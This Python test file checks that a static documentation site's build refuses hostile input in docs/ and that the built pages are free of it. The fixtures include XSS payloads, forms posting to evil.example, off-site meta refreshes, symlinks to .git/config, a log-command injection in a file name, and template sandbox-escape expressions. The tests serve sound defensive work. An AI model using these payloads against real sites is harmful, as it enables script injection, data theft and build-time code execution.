"""docs/ is input too: symlinks, runnable or unknown scripts, forms, <base>, refreshes
and redirects that leave the site are refused at build time, naming the file; and the
built site is scanned for them independently of the build's own check."""

from __future__ import annotations

import os
import posixpath
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import FIXTURE_DATA, ROOT, copy_project, run_build, page_soup
from macros.site import content_security_policy as csp
from macros.site.page_markup_rules import markup_problems, redirect_problem, symlinks_in

# ---- The scan of the built site (BeautifulSoup; shares no code with the build's check) ----

_DATA_TYPES = {"application/json", "application/ld+json"}
_THEME_FORMS = ({"md-search__form"}, {"md-header__option"})  # the search box and the light/dark switch
_LEAVES = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*:|//|\\)")


def built_page_problems(page: str, html, site: Path | None = None) -> list[str]:
    """What is wrong with one built page, given as its HTML text or as its (read-only) parse."""
    soup = BeautifulSoup(html, "lxml") if isinstance(html, str) else html
    found = []
    for script in soup.find_all("script"):
        kind = (script.get("type") or "").strip().lower()
        if kind and kind not in _DATA_TYPES:
            found.append(f"{page}: <script type=\"{kind}\">")
    for link in soup.find_all("link", href=True):
        rels = {rel.lower() for rel in link.get("rel") or []}
        if rels & {"dns-prefetch", "preconnect", "prefetch", "preload", "prerender", "modulepreload"} \
                and re.match(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*:)?//", link["href"]):
            found.append(f"{page}: <link rel=\"{' '.join(sorted(rels))}\" href=\"{link['href']}\">")
    for tag in soup.find_all("base"):
        found.append(f"{page}: <base href=\"{tag.get('href')}\">")
    for form in soup.find_all("form"):
        if set(form.get("class") or []) not in [set(c) for c in _THEME_FORMS] or form.get("action"):
            found.append(f"{page}: <form action=\"{form.get('action')}\">")
    for meta in soup.find_all("meta", attrs={"http-equiv": True}):
        equiv = meta["http-equiv"].strip().lower()
        if equiv == "refresh":
            url = re.sub(r"^\s*\d+\s*;?\s*(url\s*=\s*)?", "", meta.get("content", ""), flags=re.I).strip("'\" ")
            if _LEAVES.match(url):
                found.append(f"{page}: refresh to {url}")
            elif site is not None:
                target = posixpath.normpath(posixpath.join(posixpath.dirname(page), url.split("#")[0]))
                if target.startswith("..") or not (site / target / "index.html").exists() \
                        and not (site / target).is_file():
                    found.append(f"{page}: refresh to {url}, which is not a page of the site")
        elif equiv != "content-security-policy":
            found.append(f"{page}: <meta http-equiv=\"{equiv}\">")
    return found


def test_the_built_site_has_no_unknown_scripts_forms_base_or_leaving_redirects(built_site):
    found = []
    for html in sorted(built_site.rglob("*.html")):
        page = html.relative_to(built_site).as_posix()
        found += built_page_problems(page, page_soup(built_site, page), built_site)
    assert not found, "markup the site does not allow:\n" + "\n".join(found[:40])


def test_redirect_pages_are_scanned(built_site):
    """The site has redirect pages (diagnosis codes), so the refresh check above has something to check."""
    assert any('http-equiv="refresh"' in p.read_text(encoding="utf-8") for p in (built_site / "icd10").rglob("*.html"))


@pytest.mark.parametrize("injected", [
    '<script type="application/x-javascript">alert(1)</script>',
    '<script type="text/javascript">alert(1)</script>',
    '<script type=module src="x.js"></script>',
    '<form action="https://evil.example/collect"><input name="q"></form>',
    '<form class="md-search__form" action="https://evil.example/">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;URL=\'//evil.example/\'">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<link rel="DNS-Prefetch" href="//tracker.example">',
    '<link rel="preconnect" href="https://tracker.example">',
])
def test_the_scan_catches_each_kind_of_markup(injected):
    page = f"<html><head></head><body><p>Text</p>{injected}</body></html>"
    assert built_page_problems("x/index.html", page)


def test_the_scan_catches_a_refresh_to_a_missing_page(built_site):
    page = '<html><head><meta http-equiv="refresh" content="0; url=../../conditions/no-such-page/"></head></html>'
    assert built_page_problems("icd10/X00/index.html", page, built_site)


# ---- The build's own check: its rules, one case at a time (fast) ----

@pytest.mark.parametrize("html, words", [
    ('<script type="application/x-javascript">alert(1)</script>', "scripts are not allowed"),
    ('<SCRIPT TYPE="text/javascript">alert(1)</SCRIPT>', "scripts are not allowed"),
    ("<script>alert(1)</script>", "scripts are not allowed"),
    ('<script type="application/ld+json" type="module">alert(1)</script>', None),
    ('<script type="module" type="application/ld+json">alert(1)</script>', "scripts are not allowed"),
    ('<!--><script>alert(1)</script>-->', "scripts are not allowed"),
    ('<form action="https://evil.example/"><input></form>', "forms are not allowed"),
    ('<base href="https://evil.example/">', "<base> is not allowed"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta> is not allowed"),
    ('<iframe src="https://evil.example/"></iframe>', "frames are not allowed"),
    ('<p onmouseover="alert(1)">x</p>', "inline event handlers"),
    ('<img src=x ONERROR=alert(1)>', "inline event handlers"),
    ('<a href=" jav\tascript:alert(1)">x</a>', "javascript:"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "'data:' addresses are not allowed"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "'javascript:' addresses are not allowed"),
    ('<a href="vbscript:msgbox(1)">x</a>', "'vbscript:' addresses are not allowed"),
    ('<script type="application/ld+json">{"@type": "Article"}</script>', None),
    ('<a href="https://example.org/">x</a><p class="onboarding">x</p>', None),
    ('<!-- <form> -->', None),
])
def test_markup_rules(html, words):
    problems = markup_problems(html)
    if words is None:
        assert problems == []
    else:
        assert any(words in p for p in problems), problems


_URLS = {"", "conditions/", "conditions/neck-pain/", "icd10/M54.2/", "about/"}


@pytest.mark.parametrize("target, page, words", [
    ("../../conditions/neck-pain/", "icd10/M54.2/", None),
    ("../conditions/", "about/", None),
    ("../conditions/neck-pain/#what-helps", "about/", None),
    ("https://evil.example/", "about/", "leaves this site"),
    ("HTTP://evil.example/", "about/", "leaves this site"),
    ("//evil.example/", "about/", "leaves this site"),
    ("/\\evil.example/", "about/", "leaves this site"),
    ("javascript:alert(1)", "about/", "leaves this site"),
    ("../x; url=https://evil.example", "about/", "leaves this site"),
    ("/guide/conditions/", "about/", "leaves this site"),
    ("../../../../etc/", "about/", "above the site's top folder"),
    ("../conditions/no-such-page/", "about/", "is not a page of this site"),
    (["../conditions/"], "about/", "write the address"),
])
def test_redirect_rules(target, page, words):
    problem = redirect_problem(target, page, _URLS)
    if words is None:
        assert problem is None
    else:
        assert problem and words in problem, problem


def test_unknown_script_types_fail_the_sitewide_check(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "index.html").write_text('<script type="application/x-javascript">x()</script>'
                                               '<script type="application/ld+json">{}</script>')
    with pytest.raises(csp.PolicyError, match=r'a/index.html: <script type="application/x-javascript"> is not allowed'):
        csp.check_site(tmp_path, [])
    (tmp_path / "a" / "index.html").write_text('<script type="application/ld+json">{}</script>')
    csp.check_site(tmp_path, [])


def test_symlinks_are_found_without_following_them(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "page.md").write_text("# x\n")
    os.symlink(tmp_path / "real", tmp_path / "linked-folder")
    os.symlink("../../.git/config", tmp_path / "real" / "config.md")
    assert symlinks_in(tmp_path) == ["linked-folder", "real/config.md"]


# ---- Real builds: the hook wires the rules in, names the file, and stops ----

def _build_output(project: Path) -> tuple[int, str]:
    result = run_build(project)
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output[-3000:]
    return result.returncode, output


def _refused_page_build(tmp_path, *blocks: str) -> str:
    """Build the fixture site with docs/evil.md holding these blocks (from line 5, two lines
    apart); the build must stop. Its output."""
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "evil.md").write_text("# Evil\n\nText.\n\n" + "\n\n".join(blocks) + "\n")
    code, output = _build_output(project)
    assert code != 0
    return output


def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
    output = _refused_page_build(tmp_path, '<script type="application/x-javascript">alert(1)</script>',
                                 '<form action="https://evil.example/collect"><input name="q"></form>',
                                 '<base href="https://evil.example/">',
                                 '<meta http-equiv="refresh" content="0; url=https://evil.example/">')
    for words in ("docs/evil.md:5: <script", "scripts are not allowed", "docs/evil.md:7: <form",
                  "forms are not allowed", "docs/evil.md:9: <base", "<base> is not allowed",
                  "docs/evil.md:11: <meta", "<meta> is not allowed"):
        assert words in output, output[-3000:]


@pytest.mark.parametrize("target", ["https://evil.example/", "../../conditions/no-such-page/"])
def test_build_refuses_a_redirect_that_leaves_the_site(tmp_path, target):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "moved.md").write_text(f"---\nredirect_to: {target}\n---\n\n# Moved\n")
    code, output = _build_output(project)
    assert code != 0
    assert f"docs/moved.md:2: redirect_to: '{target}'" in output, output[-3000:]


def test_build_refuses_symlinks_in_docs(tmp_path):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    os.symlink("../../.git/config", project / "docs" / "config.md")
    (project / "outside").mkdir()
    (project / "outside" / "x.md").write_text("# x\n")
    os.symlink(project / "outside", project / "docs" / "more")
    code, output = _build_output(project)
    assert code != 0
    assert "docs/config.md:1: is a symbolic link: replace the link" in output, output[-3000:]
    assert "docs/more:1: is a symbolic link: replace the link" in output, output[-3000:]


def test_a_file_name_in_docs_cannot_forge_a_workflow_command(tmp_path):
    """docs/ file names reach the build's log: a line break in one is escaped, as in the data report."""
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    os.symlink("../../.git/config", project / "docs" / "x\n::error file=a.yml,line=1::forged.md")
    (project / "docs" / "conditions").mkdir()
    (project / "docs" / "conditions" / "sore-back.md").write_text("# Sore back\n")
    code, output = _build_output(project)
    assert code != 0 and "docs/x%0A::error file=a.yml,line=1::forged.md:1: is a symbolic link" in output, output
    assert not any(line.startswith("::") for line in output.splitlines())


@pytest.mark.parametrize("hostile", ['<a ' * 20000, '<a "' * 20000, '<a b=' * 20000, '<!--' * 20000,
                                     '<!---->' * 20000 + '<a>', '<script>' * 20000, '<a b="x" ' * 20000])
def test_the_checks_stay_linear_on_hostile_markup(hostile):
    """Each of these took over 30 s when the tag patterns could backtrack (quadratic); now milliseconds.
    The bound is a hundred times the time measured on a loaded 2-core machine."""
    import time

    started = time.perf_counter()
    markup_problems(hostile)
    csp.inline_scripts(hostile)
    csp.unknown_script_types(hostile)
    assert time.perf_counter() - started < 5


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize("name, text, words", [
    ("assets/page.html", "<p>hello</p>", "HTML files are not allowed"),
    ("old/PAGE.HTM", "<p>hello</p>", "HTML files are not allowed"),
    ("assets/feed.xml", "<rss/>", "'.xml' files are not published from docs/"),
    ("assets/style.xslt", "<xsl:stylesheet/>", "'.xslt' files are not published"),
    ("assets/style.XSL", "<xsl:stylesheet/>", "'.xsl' files are not published"),
    ("news.rss", "<rss/>", "'.rss' files"), ("news.atom", "<feed/>", "'.atom' files"),
    ("news.rdf", "<rdf/>", "'.rdf' files"), ("logo.svgz", "x", "'.svgz' files"),
    ("CNAME", "example.org", "'CNAME' files are not published"),
    ("assets/logo.svg", _SVG.format("<script>alert(1)</script>"), "<script> is not allowed"),
    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', "event handlers"),
    ("assets/logo.svg", _SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'), "'javascript:'"),
    ("assets/logo.svg", _SVG.format('<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a>'), "'javascript:'"),
    ("assets/logo.svg", _SVG.format('<a href="vbscript:x"><text>x</text></a>'), "'vbscript:'"),
    ("assets/logo.svg", _SVG.format('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
     "<script> is not allowed"),
    ("assets/logo.svg", _SVG.format("<foreignObject><p>x</p></foreignObject>"), "<foreignObject> is not allowed"),
    ("assets/logo.svg", _SVG.format('<a href="#"><set attributeName="href" to="https://example.org/"/>x</a>'),
     "<set> may not change an address"),
    ("assets/logo.svg", _SVG.format('<a><animate attributeName="xlink:href" values="#a;#b"/>x</a>'),
     "<animate> may not change an address"),
    ("assets/logo.svg", _SVG.format('<xsl:element xmlns:xsl="http://www.w3.org/1999/XSL/Transform" name="script">'
                                    "alert(1)</xsl:element>"), "XSLT elements"),
    ("assets/logo.svg", '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="s.xsl"?>\n' + _SVG.format(""),
     "<?xml-stylesheet ...?> is not allowed"),
    ("assets/logo.svg", '<!DOCTYPE svg [<!ENTITY j "javascript:alert(1)">]>' + _SVG.format('<a href="&j;">x</a>'),
     "a DOCTYPE with declarations"),
    ("assets/logo.svg", _SVG.format('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), "'data:' addresses"),
    ("assets/logo.svg", _SVG.format('<rect style="fill: url(&#39;javascript:x&#39;)"/>'), "'javascript:'"),
    ("assets/logo.svg", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
     "XHTML elements"),
    ("assets/logo.svg", "<svg><script>alert(1)</script></svg>", "does not start with <svg xmlns="),
    ("assets/logo.svg", "<svg", "not well-formed XML"),
    ("assets/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0h10v10z"/>'
     '<a href="https://example.org/"><text>x</text></a></svg>', None),
    ("assets/extra.css", "a { color: red }", None),
    ("assets/map.png", "\x89PNG", None),
])
def test_static_files_in_docs(name, text, words):
    from macros.site.docs_input import static_file_problem

    problem = static_file_problem(name, lambda: text.encode("utf-8"))
    if words is None:
        assert problem is None
    else:
        assert problem and words in problem, problem


_PAGE = "---\n{}---\n\n# A page\n\nText.\n"


@pytest.mark.parametrize("front_matter, expected", [
    ("title: <script src=\"../assets/evil.js\"></script>\n", "docs/p.md:2: title: HTML is not allowed here"),
    ("title: Fine\nsubtitle: <meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
     "docs/p.md:3: subtitle: unknown field 'subtitle'"),
    ("status: new\n", "docs/p.md:2: status: unknown field 'status'"),
    ("template: redirect.html\nlocation: javascript:alert(1)\n", "docs/p.md:2: template: unknown field"),
    ("icon: ../../x\n", "docs/p.md:2: icon: unknown field"),
    ("title: Fine {{ config }}\n", "docs/p.md:2: title: curly braces"),
    ("description: javascript:alert(1)\n", "docs/p.md:2: description: 'javascript:' is not allowed"),
    ("title: [a, b]\n", "docs/p.md:2: title: "),
    ("last_reviewed: 0\n", "docs/p.md:2: last_reviewed: 0 is not a date"),
    ("hide: [toc, everything]\n", "docs/p.md:2: hide[1]: "),
    ("title: &a Fine\ndescription: *a\n", "docs/p.md:2: title: anchors ('&') and aliases ('*') are not allowed"),
    ("title: Fine\u202e\n", "docs/p.md:2: the invisible or control character U+202E"),
    # search_terms go to the search index and from there into the results: plain text, as in a data file.
    ("search_terms:\n  - is massage safe\n  - <img src=x onerror=alert(1)>\n",
     "docs/p.md:4: search_terms[1]: HTML is not allowed here"),
    ("search_terms:\n  - javascript:alert(1)\n", "docs/p.md:3: search_terms[0]: 'javascript:' is not allowed"),
    ("search_terms: [fine, \"{{ config }}\"]\n", "docs/p.md:2: search_terms[1]: curly braces"),
    ("search_terms: [\"" + "a" * 121 + "\"]\n", "docs/p.md:2: search_terms[0]: 121 characters: this field may "
     "hold at most 120"),
    ("search_terms:\n" + "  - a\n" * 101, "docs/p.md:103: search_terms: a list may hold at most 100 items"),
    ("search_terms: is massage safe\n", "docs/p.md:2: search_terms: Input should be a valid list"),
    ("search_terms:\n  - [a, b]\n", "docs/p.md:3: search_terms[0]: "),
    ("search_term: [is massage safe]\n", "docs/p.md:2: search_term: unknown field 'search_term' "
     "(did you mean 'search_terms'?)"),
])
def test_front_matter_is_plain_and_only_what_the_page_needs(front_matter, expected):
    from macros.site.docs_input import docs_page_errors

    errors = [str(e) for e in docs_page_errors("p.md", _PAGE.format(front_matter))]
    assert any(e.startswith(expected) for e in errors), errors


def test_search_terms_in_front_matter_are_a_plain_list():
    from macros.site.docs_input import docs_page_errors

    page = _PAGE.format("title: Fine\nsearch_terms:\n  - is massage safe\n  - \"what's a massage like?\"\n")
    assert docs_page_errors("p.md", page) == []


def test_front_matter_without_dashes_is_refused():
    from macros.site.docs_input import docs_page_errors

    [error] = docs_page_errors("p.md", "Subtitle: <meta http-equiv=refresh>\n\n# A page\n")
    assert str(error).startswith("docs/p.md:1: 'Subtitle: <meta") and "between two '---' lines" in str(error)


def test_the_site_s_own_docs_pass(tmp_path):
    from macros.site.docs_input import docs_tree_errors

    assert docs_tree_errors(ROOT / "docs") == []


def test_build_refuses_an_html_file_in_docs(tmp_path):
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    (project / "docs" / "assets" / "login.html").write_text('<form action="https://evil.example/">')
    code, output = _build_output(project)
    assert code != 0
    assert "docs/assets/login.html:1: HTML files are not allowed in docs/" in output, output[-3000:]


def test_build_refuses_hostile_files_in_docs_naming_file_and_line(tmp_path):
    """The reproductions of the hostile-input review, planted in one pull request's worth of
    docs/: each is named with its file and line, and nothing is built."""
    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
    docs = project / "docs"
    (docs / "assets" / "evil.js").write_text("alert(document.domain)\n")
    (docs / "evil.md").write_text('---\ntitle: <script src="../assets/evil.js"></script>\n---\n\n# Evil\n')
    (docs / "moved.md").write_text('---\ntitle: Moved\nsubtitle: <meta http-equiv="refresh" '
                                   'content="0;url=https://evil.example/">\nstatus: new\n---\n\n# Moved\n')
    (docs / "hidden.md").write_text("# Hidden\n\nA message in\ufe0f variation selectors.\n")
    (docs / "found.md").write_text('---\ntitle: Found\nsearch_terms:\n  - fine\n  - <img src=x onerror=alert(1)>\n'
                                   '---\n\n# Found\n')
    (docs / "assets" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<a href="#">\n'
        '<set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>\n</svg>\n')
    (docs / "assets" / "style.xslt").write_text('<xsl:stylesheet version="1.0"/>')
    (docs / "assets" / "feed.rss").write_text("<rss/>")
    code, output = _build_output(project)
    assert code != 0
    for words in ("docs/evil.md:2: title: HTML is not allowed here",
                  "docs/moved.md:3: subtitle: unknown field 'subtitle'",
                  "docs/moved.md:4: status: unknown field 'status'",
                  "docs/hidden.md:3: the invisible or control character U+FE0F",
                  "docs/found.md:5: search_terms[1]: HTML is not allowed here",
                  "docs/assets/logo.svg:3: an image may not carry scripts: line 3: <set> may not change an address",
                  "docs/assets/style.xslt:1: '.xslt' files are not published from docs/",
                  "docs/assets/feed.rss:1: '.rss' files are not published"):
        assert words in output, output[-3000:]
    assert not (project / "site" / "evil").exists()


def test_build_refuses_markup_in_a_page_at_its_line(tmp_path):
    output = _refused_page_build(tmp_path, '<a href="&#106;avascript:alert(1)">here</a>',
                                 "[there](vb&#115;cript:msgbox)",
                                 '<link rel="dns-prefetch" href="//tracker.example">',
                                 '<link rel="preconnect" href="https://tracker.example">')
    for words in ("docs/evil.md:5: <a href=\"&#106;avascript:alert(1)\">: href=: 'javascript:' addresses",
                  "docs/evil.md:7: ",
                  "docs/evil.md:9: <link rel=\"dns-prefetch\" href=\"//tracker.example\">: <link> is not allowed",
                  "docs/evil.md:11: <link rel=\"preconnect\""):
        assert words in output, output[-3000:]
    assert "'vbscript:'" in output, output[-3000:]


def test_a_title_the_theme_would_print_as_markup_is_refused():
    """MkDocs takes a page's title from its first heading when the front matter has none; the
    theme prints it raw in the menu, so one that still holds markup is refused."""
    from macros.site.docs_input import title_error

    assert str(title_error("p.md", '<img src=x onerror="alert(1)"')).startswith("docs/p.md:1: title: ")
    assert title_error("p.md", "Pain &gt; 3 months") is None


AT_GENERATED_ADDRESSES = {"conditions/sore-back.md": "data/conditions/sore-back.yml",
                          "conditions/index.md": "the data in data/",
                          "api/v1/evidence-map.json": "the data in data/"}


@pytest.fixture(scope="module")
def docs_files_at_generated_addresses(tmp_path_factory) -> tuple[int, str]:
    """One build of the fixture site with a docs/ file at each address above (the build names
    every one of them)."""
    project = copy_project(tmp_path_factory.mktemp("generated-addresses") / "p", data=FIXTURE_DATA)
    for path in AT_GENERATED_ADDRESSES:
        (project / "docs" / path).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / path).write_text("# Sore back\n\nAnother text.\n")
    return _build_output(project)


@pytest.mark.parametrize("path", AT_GENERATED_ADDRESSES)
def test_build_refuses_a_docs_file_at_a_generated_address_naming_both(docs_files_at_generated_addresses, path):
    """A docs/ page at the address of a page the site makes was silently replaced by it."""
    code, output = docs_files_at_generated_addresses
    assert code != 0
    maker = AT_GENERATED_ADDRESSES[path]
    assert f"docs/{path}:1: the site makes the file at this address itself, from {maker}" in output, output[-3000:]


REACHING_FOR_PYTHON = ['lipsum.__globals__["os"].getcwd()', "cycler.__init__.__globals__",
                       'claim_verdict.__globals__["__builtins__"]', "range(3)",
                       "''.__class__.__mro__[1].__subclasses__()"]


@pytest.fixture(scope="module")
def pages_reaching_for_python(tmp_path_factory) -> tuple[int, str]:
    """One build of the fixture site with docs/evil-<n>.md showing each expression above (the
    build names every page it refuses)."""
    project = copy_project(tmp_path_factory.mktemp("reach-python") / "p", data=FIXTURE_DATA)
    for number, expression in enumerate(REACHING_FOR_PYTHON):
        (project / "docs" / f"evil-{number}.md").write_text(
            "---\ntitle: Evil\nrender_macros: true\n---\n\n# Evil\n\n" f"{{{{ {expression} }}}}\n")
    return _build_output(project)


@pytest.mark.parametrize("number, expression", list(enumerate(REACHING_FOR_PYTHON)))
def test_a_prose_page_cannot_reach_python(pages_reaching_for_python, number, expression):
    """A docs/ page that shows data is a template: it reaches the site's functions, never Python
    (unsandboxed, `lipsum.__globals__` led to the os module at build time)."""
    code, output = pages_reaching_for_python
    assert code != 0
    # Refused by the check of every {{ }} before the macros plugin runs it (render/page_check.py).
    assert re.search(rf"docs/evil-{number}\.md:8: \w+: .*(is not allowed|unknown macro|may use only)", output), \
        output[-3000:]
    assert "Traceback" not in output
